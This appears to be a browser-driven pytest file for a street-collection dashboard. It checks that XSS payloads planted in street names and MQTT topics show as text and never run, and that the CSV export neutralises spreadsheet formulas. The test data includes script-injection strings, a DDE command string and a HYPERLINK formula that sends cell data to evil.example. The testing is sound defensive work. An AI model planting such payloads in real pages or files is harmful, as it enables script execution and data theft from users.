"""The dashboard in a real browser shows hostile text as text: no script from OSM names or MQTT topics runs.

Street names come from OpenStreetMap and topics from trucks: both reach the pages through the
API. Each payload, if it were inserted as HTML, would set ``window.__pwned``; the test also checks
that the payload is visible on the page as text, so a page that showed nothing would not pass.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from server.app import create_app
from server.config import load_settings
from server.ingest.inbox import MqttMessage
from server.web.auth import add_user
from tests.conftest import CHROMIUM, free_port
from tests.server.events import lift_event

PASSWORD = "correct horse battery staple"
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '"><svg onload="window.__pwned=1">',
]


def hostile_streets(folder: Path) -> Path:
    features = [{"type": "Feature", "id": i + 1,
                 "properties": {"name": f"Rue {payload}", "highway": "residential", "commune": "Rennes"},
                 "geometry": {"type": "LineString",
                              "coordinates": [[-1.68, 48.11 + i * 0.0005], [-1.679, 48.11 + i * 0.0005]]}}
                for i, payload in enumerate(PAYLOADS)]
    path = folder / "hostile.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    return path


def seed(app: Any, folder: Path) -> int:
    """Hostile streets with alert lifts on them, and a dead letter whose topic is a payload."""
    from server.streets.importer import import_street_file
    from server.streets.locator import Locator
    from server.streets.models import Street

    ctx = app.state.ctx
    with ctx.sessions() as session, session.begin():
        import_street_file(session, hostile_streets(folder))
        add_user(session, "gestion", PASSWORD, "manager")
    with ctx.sessions() as session:
        locator = Locator.from_session(session)
        street_id = session.query(Street.id).order_by(Street.id).first()[0]
    from server.ingest.evidence import EvidenceStore
    from server.ingest.inbox import Inbox
    from server.ingest.metrics import Metrics

    settings = ctx.settings
    inbox = Inbox(settings, EvidenceStore(settings.evidence_path, settings.max_evidence_bytes), Metrics(),
                  lambda _s: locator)
    now = datetime.now(UTC)
    events = [lift_event("benne-01", gps=(48.11 + i * 0.0005, -1.6795), counts={"battery": 1, "bottle": 1})
              for i in range(len(PAYLOADS)) for _ in range(6)]
    messages = [MqttMessage(f"{settings.topic_prefix}/benne-01/lift", e.to_json().encode(), now) for e in events]
    messages.append(MqttMessage(f"{settings.topic_prefix}/benne-01/{PAYLOADS[0]}", b"{}", now))
    with ctx.sessions() as session, session.begin():
        inbox.write(session, messages)
    return street_id


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, int]]:
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is absent")
    folder = tmp_path_factory.mktemp("xss")
    port = free_port()
    settings = load_settings(env={}, data_dir=folder / "data", ingest_enabled=False, cookie_secure=False, port=port)
    app = create_app(settings)
    street_id = seed(app, folder)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", street_id
    server.should_exit = True
    thread.join(15)


@pytest.fixture(scope="module")
def page(site: tuple[str, int], chromium: Any) -> Iterator[Any]:
    url, _ = site
    login = httpx.post(f"{url}/api/login", json={"name": "gestion", "password": PASSWORD})
    assert login.status_code == 200
    # The collection day is Paris time (server setting); the page computes its period in the
    # browser's zone, as a French depot's browser would.
    context = chromium.new_context(locale="fr-FR", timezone_id="Europe/Paris")
    context.add_cookies([{"name": name, "value": value, "url": url} for name, value in login.cookies.items()])
    page = context.new_page()
    page.set_default_timeout(15_000)
    yield page
    context.close()


@pytest.mark.parametrize("path,shows", [
    ("/classement?min_lifts=1", PAYLOADS),  # 6 lifts a street: under the default minimum
    ("/alertes", PAYLOADS),
    ("/rues/{street_id}", PAYLOADS[:1]),
    ("/qualite", PAYLOADS[:1]),
])
def test_hostile_text_is_shown_as_text_and_never_runs(site: tuple[str, int], page: Any, path: str,
                                                      shows: list[str]) -> None:
    url, street_id = site
    page.goto(url + path.format(street_id=street_id))
    page.wait_for_load_state("networkidle")
    body = page.locator("body")
    for payload in shows:
        try:
            body.get_by_text(payload, exact=False).first.wait_for(timeout=10_000)
        except Exception:  # the failure message says what was on the page instead
            pytest.fail(f"{path} does not show {payload!r} as text; page text: {body.inner_text()[:600]!r}")
    assert page.evaluate("window.__pwned") is None, f"a payload ran as HTML on {path}"


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Rue")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]


@pytest.mark.parametrize(("lang", "separator", "negative"), [("fr", ";", "-0,25"), ("en", ",", "-0.25")])
def test_the_ranking_csv_export_neutralises_formulas_and_keeps_numbers(
    site: tuple[str, int], page: Any, lang: str, separator: str, negative: str
) -> None:
    """The dashboard builds its CSV in the browser (``ranking.js`` ``csvCell``): OSM names that are
    formulas get a leading quote there too, while a negative JS number stays a number; in either
    language's separator (a name holding that separator is quoted, not split)."""
    import csv
    import io

    url, _ = site
    page.context.add_cookies([{"name": "trivue_lang", "value": lang, "url": url}])

    def hostile(route: Any) -> None:
        body = route.fetch().json()
        for street, name in zip(body["streets"], FORMULAS, strict=False):
            street["name"] = name
        if body["streets"]:  # the previous period (for "most improved") has none
            body["streets"][0]["rate"] = -0.25  # a negative JS number: the CSV must keep it a number
        route.fulfill(json=body)

    page.route("**/api/streets?*", hostile)
    try:
        page.goto(url + "/classement?min_lifts=1")
        page.wait_for_selector("body[data-ready=true]")
        with page.expect_download() as download:
            page.locator("[data-export=worst]").click()
        text = download.value.path().read_text(encoding="utf-8-sig")
    finally:
        page.unroute("**/api/streets?*")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator))
    names = [r["name"] for r in rows]
    assert len(rows) == len(PAYLOADS) and sorted(names) == sorted("'" + f for f in FORMULAS[:len(rows)]), names
    assert negative in [r["rate"] for r in rows]  # a number, in the decimal mark of the page's language
